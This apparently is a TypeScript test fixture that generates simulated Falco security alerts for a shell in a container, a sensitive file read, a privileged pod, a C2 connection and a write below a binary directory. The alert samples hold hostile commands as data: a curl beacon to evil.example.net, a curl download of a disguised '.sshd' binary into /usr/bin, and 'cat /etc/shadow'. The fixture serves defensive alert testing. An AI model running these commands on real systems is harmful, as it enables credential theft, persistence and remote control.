import { randomInt } from 'node:crypto';

/** What Falco's `json_output` + `http_output` POST for one alert. */
export interface FalcoAlert {
  rule: string;
  priority: string;
  source: string;
  hostname: string;
  tags: string[];
  output: string;
  output_fields: Record<string, string | number | boolean | null | string[]>;
}

/** Falco's RFC 3339 time with nanoseconds, plus the same instant as `evt.time` (ns since epoch). */
function falcoTime(at: Date): { time: string; ns: string } {
  const subMs = String(randomInt(0, 1_000_000)).padStart(6, '0');
  const iso = at.toISOString(); // 2026-05-01T10:00:00.123Z
  const time = `${iso.slice(0, 23)}${subMs}Z`;
  const ns = `${BigInt(at.getTime()) * 1_000_000n + BigInt(subMs)}`;
  return { time, ns };
}

/**
 * The JSON body Falco would send for `alert` at `at`. `evt.time` is written as an exact integer
 * beyond 2^53, as Falco does; `{time}` in `output` is replaced by Falco's clock notation.
 */
export function falcoBody(alert: FalcoAlert, at: Date): string {
  const { time, ns } = falcoTime(at);
  const clock = `${time.slice(11, 29)}`; // 10:00:00.123456789
  const body = {
    time,
    rule: alert.rule,
    priority: alert.priority,
    source: alert.source,
    hostname: alert.hostname,
    tags: alert.tags,
    output: alert.output.replace('{time}', clock),
    output_fields: { ...alert.output_fields, 'evt.time': '__EVT_TIME__' },
  };
  return JSON.stringify(body).replace('"__EVT_TIME__"', ns);
}

/** Realistic alerts across the three isolation boundaries. */
export const ALERTS = {
  shell: {
    rule: 'Terminal shell in container',
    priority: 'Notice',
    source: 'syscall',
    hostname: 'node-1',
    tags: ['maturity_stable', 'container', 'shell', 'mitre_execution', 'T1059'],
    output:
      '{time}: Notice A shell was spawned in a container with an attached terminal ' +
      '(evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash ' +
      'parent=runc command=bash terminal=34816 exe_flags=EXE_WRITABLE container_id=3f2a1b9c8d7e ' +
      'container_image=registry.example.com/payments/api container_image_tag=1.8.2 ' +
      'container_name=api k8s_ns=payments k8s_pod_name=api-7d9f8b6c5-x2k4q)',
    output_fields: {
      'container.id': '3f2a1b9c8d7e',
      'container.image.repository': 'registry.example.com/payments/api',
      'container.image.tag': '1.8.2',
      'container.name': 'api',
      'evt.type': 'execve',
      'k8s.ns.name': 'payments',
      'k8s.pod.name': 'api-7d9f8b6c5-x2k4q',
      'proc.cmdline': 'bash',
      'proc.name': 'bash',
      'proc.pname': 'runc',
      'proc.tty': 34816,
      'user.loginuid': -1,
      'user.name': 'root',
    },
  },
  sensitiveRead: {
    rule: 'Read sensitive file untrusted',
    priority: 'Warning',
    source: 'syscall',
    hostname: 'node-2',
    tags: [
      'maturity_stable',
      'host',
      'container',
      'filesystem',
      'mitre_credential_access',
      'T1555',
    ],
    output:
      '{time}: Warning Sensitive file opened for reading by non-trusted program ' +
      '(file=/etc/shadow gparent=containerd-shim ggparent=containerd gggparent=systemd ' +
      'evt_type=openat user=root user_uid=0 process=cat proc_exepath=/usr/bin/cat parent=sh ' +
      'command=cat /etc/shadow container_id=9a8b7c6d5e4f k8s_ns=checkout k8s_pod_name=web-5c8d7f9b4-qp2zx)',
    output_fields: {
      'container.id': '9a8b7c6d5e4f',
      'fd.name': '/etc/shadow',
      'k8s.ns.name': 'checkout',
      'k8s.pod.name': 'web-5c8d7f9b4-qp2zx',
      'proc.cmdline': 'cat /etc/shadow',
      'proc.name': 'cat',
      'user.name': 'root',
    },
  },
  privilegedPod: {
    rule: 'Create Privileged Pod',
    priority: 'Warning',
    source: 'k8s_audit',
    hostname: 'control-plane-1',
    tags: ['maturity_incubating', 'k8s'],
    output:
      '{time}: Warning Pod started with privileged container (user=system:serviceaccount:ci:deployer ' +
      'pod=debug-tools ns=ml-training images=docker.io/library/busybox:1.36)',
    output_fields: {
      'ka.req.pod.containers.image': ['docker.io/library/busybox:1.36'],
      'ka.resp.name': 'debug-tools',
      'ka.target.namespace': 'ml-training',
      'ka.user.name': 'system:serviceaccount:ci:deployer',
    },
  },
  c2: {
    rule: 'Outbound Connection to C2 Servers',
    priority: 'Critical',
    source: 'syscall',
    hostname: 'node-1',
    tags: [
      'maturity_sandbox',
      'host',
      'container',
      'network',
      'mitre_command_and_control',
      'TA0011',
    ],
    output:
      '{time}: Critical Outbound connection to C2 server (c2_domain=evil.example.net ' +
      'connection=10.0.3.17:51234->203.0.113.66:443 lport=51234 rport=443 fd_type=ipv4 fd_proto=tcp ' +
      'evt_type=connect user=app process=curl command=curl -s https://evil.example.net/beacon ' +
      'container_id=3f2a1b9c8d7e k8s_ns=payments k8s_pod_name=api-7d9f8b6c5-x2k4q)',
    output_fields: {
      'container.id': '3f2a1b9c8d7e',
      'fd.name': '10.0.3.17:51234->203.0.113.66:443',
      'fd.sip': '203.0.113.66',
      'fd.sport': 443,
      'k8s.ns.name': 'payments',
      'k8s.pod.name': 'api-7d9f8b6c5-x2k4q',
      'proc.cmdline': 'curl -s https://evil.example.net/beacon',
      'proc.name': 'curl',
      'user.name': 'app',
    },
  },
  binaryDirWrite: {
    rule: 'Write below binary dir',
    priority: 'Error',
    source: 'syscall',
    hostname: 'node-3',
    tags: ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_persistence', 'T1543'],
    output:
      '{time}: Error File below a known binary directory opened for writing (file=/usr/bin/.sshd ' +
      'pcmdline=sh -c "curl -so /usr/bin/.sshd http://203.0.113.66/x" evt_type=openat user=root ' +
      'process=curl container_id=7c6b5a4f3e2d k8s_ns=ml-training k8s_pod_name=trainer-0)',
    output_fields: {
      'container.id': '7c6b5a4f3e2d',
      'fd.name': '/usr/bin/.sshd',
      'k8s.ns.name': 'ml-training',
      'k8s.pod.name': 'trainer-0',
      'proc.name': 'curl',
      'user.name': 'root',
    },
  },
} satisfies Record<string, FalcoAlert>;
